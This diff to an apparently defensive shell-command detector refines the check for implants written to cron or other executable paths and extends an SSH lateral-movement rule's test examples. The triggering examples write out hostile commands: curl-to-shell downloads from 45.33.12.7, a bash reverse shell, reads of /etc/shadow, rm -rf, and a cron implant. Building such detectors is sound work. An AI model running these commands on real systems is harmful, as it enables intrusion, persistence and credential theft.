@@ -4,6 +4,7 @@ import { OUTPUT_OPTIONS, smbUploads } from '../facts.js';
 import { canonicalPath, classifyPath, hiddenInTemp, inTemp, isStagingPath } from '../knowledge/paths.js';
 import { classifyHost, destinationOf, EXFIL_KINDS } from '../knowledge/hosts.js';
 import { powershellCradle } from './command_and_control.js';
+import { hostileText, writtenText } from './persistence.js';
 
 /** System directories a planted binary or config takes effect from. */
 const SYSTEM_TARGET = /^(\/usr\/(local\/)?s?bin|\/s?bin|\/etc|\/root|\/lib\/systemd|\/opt\/[^/]+\/bin)(\/|$)/;
@@ -17,6 +18,9 @@ interface Cmd {
   pipeFrom?: Cmd;
   redirects: ReadonlyArray<{ op: string; target: string }>;
 }
+
+/** A command the view parsed, with its stdin and expansions known, rather than one split from unparsed text. */
+const parsed = (c: Cmd): c is SimpleCommand => 'dynamic' in c;
 
 /** Remote payload text longer than this is analyzed only up to the bound. */
 const MAX_SCRIPT = 8192;
@@ -134,11 +138,14 @@ function payloadOf(cmds: readonly Cmd[]): string | undefined {
     if ((c.name === 'dd' && c.argv.some((a) => a.startsWith('of=/dev/'))) || c.name.startsWith('mkfs') || c.name === 'wipefs') return `destroys a disk: ${line}`;
     // etcd's keys are the cluster's secrets; other dumps are judged with where they go (remotePayload)
     if (c.name === 'etcdctl' && c.argv.includes('get')) return `dumps the cluster store: ${line}`;
+    // a cron line, unit or logrotate rule written there with text that can be read and holds nothing hostile is
+    // administration (the persistence rules judge it as they would here); unknown or hostile text is the implant
+    const implant = () => { const text = parsed(c) ? writtenText(c) : ''; return text.trim() === '' || hostileText(text) !== undefined; };
     for (const r of c.redirects) {
       const k = r.op.startsWith('>') ? classifyPath(r.target) : undefined;
-      if (k?.role === 'exec-location') return `writes ${k.label}: ${line} ${r.op} ${r.target}`;
+      if (k?.role === 'exec-location' && implant()) return `writes ${k.label}: ${line} ${r.op} ${r.target}`;
     }
-    if (c.name === 'tee') { const k = c.argv.slice(1).map((a) => classifyPath(a)).find((x) => x?.role === 'exec-location'); if (k) return `writes ${k.label}: ${line}`; }
+    if (c.name === 'tee') { const k = c.argv.slice(1).map((a) => classifyPath(a)).find((x) => x?.role === 'exec-location'); if (k && implant()) return `writes ${k.label}: ${line}`; }
     if (!NOT_READERS.has(c.name)) {
       // `openssl req -keyout k.pem` writes the key it names
       const outputs = OUTPUT_OPTIONS[c.name];
@@ -347,7 +354,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-LATERAL-001', name: 'ssh-runs-payload-on-remote-host', score: 85, tactic: 'lateral_movement', technique: 'T1021.004', strong: true,
     message: 'Runs a download-and-execute, reverse shell, credential read or implant on another host over SSH', why: 'Using SSH access to fetch and run code, read secrets or plant keys on a second machine is how an intrusion spreads.',
     check: remotePayload(SSH_LIKE),
-    examples: { fire: ["ssh root@10.0.0.12 'rm -rf /opt/*'", "ssh -i ~/.ssh/id_rsa -o StrictHostKeyChecking=no root@10.0.0.12 'curl -s http://45.33.12.7/x.sh | sh'", "sshpass -p 'Winter2024!' ssh -o StrictHostKeyChecking=no admin@192.168.1.20 'sudo cat /etc/shadow'", "pdsh -w 10.0.0.[1-50] 'curl -s http://45.33.12.7/m | sh'", "ssh -o BatchMode=yes deploy@10.0.0.15 \"bash -c 'bash -i >& /dev/tcp/45.33.12.7/4444 0>&1'\"", "gcloud compute ssh prod-vm-1 --zone us-central1-a --command 'sudo cat /etc/shadow'"], quiet: ["ssh deploy@web-1.example.com 'ls -1t /opt/app/releases | tail -n +6 | xargs -r -I{} rm -rf /opt/app/releases/{}'", "ssh deploy@staging.internal 'systemctl status app'", 'ssh -T git@github.com', "ssh deploy@10.0.0.5 'cd /srv/app && git pull && npm ci'", "pdsh -w web[1-4] 'uptime'"] },
+    examples: { fire: ["ssh root@10.0.0.12 'rm -rf /opt/*'", "ssh admin@10.0.0.12 \"echo '* * * * * root curl -s http://45.33.12.7/b | sh' | sudo tee /etc/cron.d/sync\"", "ssh -i ~/.ssh/id_rsa -o StrictHostKeyChecking=no root@10.0.0.12 'curl -s http://45.33.12.7/x.sh | sh'", "sshpass -p 'Winter2024!' ssh -o StrictHostKeyChecking=no admin@192.168.1.20 'sudo cat /etc/shadow'", "pdsh -w 10.0.0.[1-50] 'curl -s http://45.33.12.7/m | sh'", "ssh -o BatchMode=yes deploy@10.0.0.15 \"bash -c 'bash -i >& /dev/tcp/45.33.12.7/4444 0>&1'\"", "gcloud compute ssh prod-vm-1 --zone us-central1-a --command 'sudo cat /etc/shadow'"], quiet: ["ssh marta@db-01.sunfield.lan \"echo '30 2 * * * postgres /usr/local/bin/backup-members-db.sh >> /var/log/backup-members-db.log 2>&1' | sudo tee /etc/cron.d/backup-members-db\"", "ssh ops@web-03.example.net \"sudo tee /etc/logrotate.d/nginx > /dev/null <<'EOF'\n/var/log/nginx/*.log {\n  daily\n  rotate 14\n  compress\n}\nEOF\"", "ssh deploy@web-1.example.com 'ls -1t /opt/app/releases | tail -n +6 | xargs -r -I{} rm -rf /opt/app/releases/{}'", "ssh deploy@staging.internal 'systemctl status app'", 'ssh -T git@github.com', "ssh deploy@10.0.0.5 'cd /srv/app && git pull && npm ci'", "pdsh -w web[1-4] 'uptime'"] },
   },
   {
     id: 'PX-LATERAL-002', name: 'container-exec-runs-payload', score: 85, tactic: 'lateral_movement', technique: 'T1609', strong: true,
